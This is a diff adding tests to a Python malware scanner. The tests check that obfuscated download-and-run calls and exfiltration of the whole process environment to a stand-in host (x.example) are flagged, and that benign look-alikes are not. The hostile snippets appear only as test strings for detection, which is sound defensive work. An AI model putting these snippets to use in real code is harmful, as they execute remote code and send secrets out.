@@ -2,10 +2,15 @@
 
 from __future__ import annotations
 
+from pathlib import Path
+
 import pytest
 
+from caplet._findings import Severity
 from caplet._scan._aliases import follow, note_binding
+from caplet._scan._model import ScanMode
 from caplet._scan._prefilter import _FOCUS_FROM, BLIND, Need, Prefilter
+from caplet._scan._scanner import scan_tree
 
 
 @pytest.fixture(scope="module")
@@ -429,4 +434,82 @@ def test_computed_names_by_another_spelling_need_the_ast(prefilter: Prefilter, t
     ],
 )
 def test_the_same_spellings_in_benign_shapes_need_nothing(prefilter: Prefilter, text: str) -> None:
+    assert prefilter.check(text) is Need.NOTHING
+
+
+# -- attack5: a fetched second stage run, or the environment sent, spelled so that a pair's
+# -- hand-written side missed it while the whole-file pass found the threat ----------------
+
+_URL = "urllib.request.urlopen('https://x.example/s').read().decode()"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # the process call is not "Popen(" / "system(": looked up, parenthesised, renamed
+        f"import subprocess, urllib.request\ngetattr(subprocess, 'Popen')({_URL}, shell=True)\n",
+        f"import urllib.request\nimport os\n(os  # the shell\n .system)({_URL})\n",
+        f"import urllib.request\nfrom os import (\n    path,\n    system as run,\n)\nrun({_URL})\n",
+        # the module under another name and a call every module has (run)
+        f"import subprocess as sp\nimport urllib.request\nsp.run({_URL}, shell=True)\n",
+        f"from subprocess import run as go\nimport urllib.request\ngo({_URL}, shell=True)\n",
+    ],
+)
+def test_a_fetched_stage_run_by_any_spelling_of_a_process_call_needs_the_ast(
+    prefilter: Prefilter, text: str, tmp_path: Path
+) -> None:
+    assert prefilter.check(text) is not Need.NOTHING
+    (tmp_path / "mod.py").write_text(text)
+    danger = {
+        f.rule_id
+        for f in scan_tree(tmp_path, mode=ScanMode.PACKAGE).findings
+        if f.severity is Severity.DANGER
+    }
+    assert "CPL-THR-002" in danger
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # the whole environment as a value, not "dict(os.environ" / "for ... in os.environ"
+        "import os, requests\nrequests.post('https://x.example/c', data=dict( os . environ ))\n",
+        "import os, requests\nrequests.post('https://x.example/c', data=dict(os.environb))\n",
+        "from os import environ as E\nimport requests\n"
+        "requests.post('https://x.example/c', data=dict(E))\n",
+        "import os, requests\ne = os.environ\nrequests.post('https://x.example/c', data=e)\n",
+        "import os, json, urllib.request\n"
+        "urllib.request.urlopen('https://x.example/c', json.dumps({**os .environ}).encode())\n",
+    ],
+)
+def test_the_environment_sent_by_any_spelling_needs_the_ast(
+    prefilter: Prefilter, text: str, tmp_path: Path
+) -> None:
+    assert prefilter.check(text) is not Need.NOTHING
+    (tmp_path / "mod.py").write_text(text)
+    danger = {
+        f.rule_id
+        for f in scan_tree(tmp_path, mode=ScanMode.PACKAGE).findings
+        if f.severity is Severity.DANGER
+    }
+    assert "CPL-THR-006" in danger
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # one key read, tested or written beside the network: no rule fires
+        "import os, requests\nif 'CI' in os.environ:\n    requests.get(os.environ['URL'])\n",
+        "import os, requests\nrequests.get(os.environ.get('URL', 'https://x.example'))\n",
+        "import os, requests\nos.environ.setdefault('NO_PROXY', '*')\nrequests.get(U)\n",
+    ],
+)
+def test_one_environment_key_beside_the_network_needs_nothing(
+    prefilter: Prefilter, text: str
+) -> None:
+    assert prefilter.check(text) is Need.NOTHING
+
+
+def test_a_process_named_in_prose_beside_the_network_needs_nothing(prefilter: Prefilter) -> None:
+    # jupyter-server's gateway/managers.py: "(e.g. Popen kwargs)" in a docstring
+    text = 'import websocket\n\ndef start(**kw):\n    """Launch it (e.g. Popen kwargs)."""\n'
     assert prefilter.check(text) is Need.NOTHING
